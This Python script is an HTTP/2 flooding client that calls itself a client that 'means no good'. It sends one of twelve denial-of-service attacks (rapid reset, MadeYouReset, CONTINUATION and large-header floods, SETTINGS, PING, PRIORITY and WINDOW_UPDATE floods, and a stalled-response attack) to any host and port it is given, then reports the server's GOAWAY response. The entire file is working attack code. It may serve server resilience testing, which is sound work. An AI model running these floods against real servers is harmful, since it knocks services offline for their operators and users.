"""A client of HTTP/2 that means no good: ``floods.py HOST PORT WAY`` sends what WAY says until the
connection ends, and prints what it was told: ``{"sent": frames, "code": GOAWAY's error code, "words": …}``.
"""

from __future__ import annotations

import itertools
import json
import socket
import sys
from collections.abc import Callable, Iterator

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(6, 10)
END_STREAM, END_HEADERS = 1, 4
CANCEL = b"\0\0\0\x08"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MOST = 200_000
"""Frames after which a flood is one that nobody stops."""


def frame(kind: int, flags: int, number: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + number.to_bytes(4, "big") + payload


def head(number: int, path: bytes = b"/never", flags: int = END_STREAM) -> bytes:
    """Return a GET of *path*, written with the static table alone."""
    block = b"\x82\x86\x04" + bytes((len(path),)) + path + b"\x01\x03web"
    return frame(HEADERS, flags | END_HEADERS, number, block)


def each_stream(*more: Callable[[int], bytes]) -> Iterator[bytes]:
    for number in itertools.count(1, 2):
        yield b"".join([head(number), *[make(number) for make in more]])


def half_a_head(more: bytes) -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1, more))


def stalled() -> Iterator[bytes]:
    """Ask for a thousand answers of a megabyte, and take nothing of them."""
    yield frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0")
    for number in range(1, 2000, 2):
        yield head(number, b"/length/1000000/0")


def open_stream(then: bytes) -> Iterator[bytes]:
    yield head(1, flags=0)
    yield from itertools.repeat(then)


WAYS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": lambda: each_stream(lambda number: frame(RST_STREAM, 0, number, CANCEL)),
    "made-you-reset": lambda: each_stream(lambda number: frame(WINDOW_UPDATE, 0, number, bytes(4))),
    "data-behind-the-end": lambda: each_stream(lambda number: frame(DATA, 0, number, b"x")),
    "continuation": lambda: half_a_head(b""),
    "large-head": lambda: half_a_head(bytes(16384)),
    "settings": lambda: itertools.repeat(frame(SETTINGS, 0, 0)),
    "windows": lambda: itertools.repeat(frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\x01" * 2000)),
    "ping": lambda: itertools.repeat(frame(PING, 0, 0, bytes(8))),
    "priority": lambda: itertools.repeat(frame(PRIORITY, 0, 1, bytes(4) + b"\x10")),
    "empty-data": lambda: open_stream(frame(DATA, 0, 1)),
    "stall": stalled,
    "window-update": lambda: open_stream(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01")),
}


def told(data: bytes) -> dict[str, object] | None:
    """Return what the GOAWAY among the frames in *data* says."""
    at = 0
    while at + 9 <= len(data):
        end = at + 9 + int.from_bytes(data[at : at + 3], "big")
        if data[at + 3] == GOAWAY and end <= len(data):
            return {"code": int.from_bytes(data[at + 13 : at + 17], "big"), "words": data[at + 17 : end].decode()}
        at = end
    return None


def flood(connection: socket.socket, made: Iterator[bytes]) -> tuple[int, bytes]:
    """Send what is *made*; return how much of it, and all that was heard until the end."""
    heard = b""
    sent = 0
    try:
        while sent < MOST and told(heard) is None:
            pieces = list(itertools.islice(made, 100))
            if not pieces:
                break
            connection.sendall(b"".join(pieces))
            sent += len(pieces)
            connection.settimeout(0)
            try:
                heard += connection.recv(1 << 20)
            except BlockingIOError:
                pass
            connection.settimeout(60)
        while piece := connection.recv(1 << 20):
            heard += piece
    except (ConnectionError, TimeoutError):
        pass
    return sent, heard


def main() -> None:
    host, port, way = sys.argv[1:]
    with socket.create_connection((host, int(port)), timeout=60) as connection:
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
        sent, heard = flood(connection, WAYS[way]())
    print(json.dumps({"sent": sent, **(told(heard) or {"code": None, "words": ""})}))


if __name__ == "__main__":
    main()
